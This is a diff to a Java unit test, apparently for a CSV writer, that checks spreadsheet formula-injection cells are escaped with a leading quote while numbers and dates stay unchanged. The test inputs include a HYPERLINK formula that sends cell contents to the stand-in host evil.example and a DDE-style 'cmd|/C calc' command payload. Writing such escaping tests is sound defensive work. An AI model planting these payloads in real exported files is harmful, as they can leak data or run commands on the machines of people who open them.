@@ -18,6 +18,21 @@ class CsvWriterTest {
         assertEquals("'single' ; tab\t", CsvWriter.cell("'single' ; tab\t"));
     }
 
+    /** A text a spreadsheet would run as a formula (attack 31 F1) opens as that text: a leading ' and numbers left as numbers. */
+    @Test
+    void aTextStartingAsAFormulaIsWrittenWithALeadingQuoteANumberIsNot() {
+        assertEquals("'=A1", CsvWriter.cell("=A1"));
+        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\"",
+                CsvWriter.cell("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")"));
+        assertEquals("'+cmd", CsvWriter.cell("+cmd"));
+        assertEquals("'-2-3", CsvWriter.cell("-2-3"));
+        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", CsvWriter.cell("@SUM(1+1)*cmd|' /C calc'!A0"));
+        assertEquals("'\tx", CsvWriter.cell("\tx"));
+        assertEquals("\"'\rx\"", CsvWriter.cell("\rx"));
+        for (String n : List.of("-2.5", "+3", "-1e-5", "-.5", "-Infinity", "2024-01-02", "a=b")) assertEquals(n, CsvWriter.cell(n), n);
+        assertEquals("x,'=1+1,-2.5\n", CsvWriter.table(List.of("x", "=1+1", -2.5), List.of(), CsvWriter.LF));
+    }
+
     @Test
     void aTableHasItsHeaderQuotedTooNullsEmptyAndTheAskedLineEnd() {
         List<List<?>> rows = List.of(Arrays.asList("IBM", 1.5, null), List.of("K,O", 2, "x\"y"));
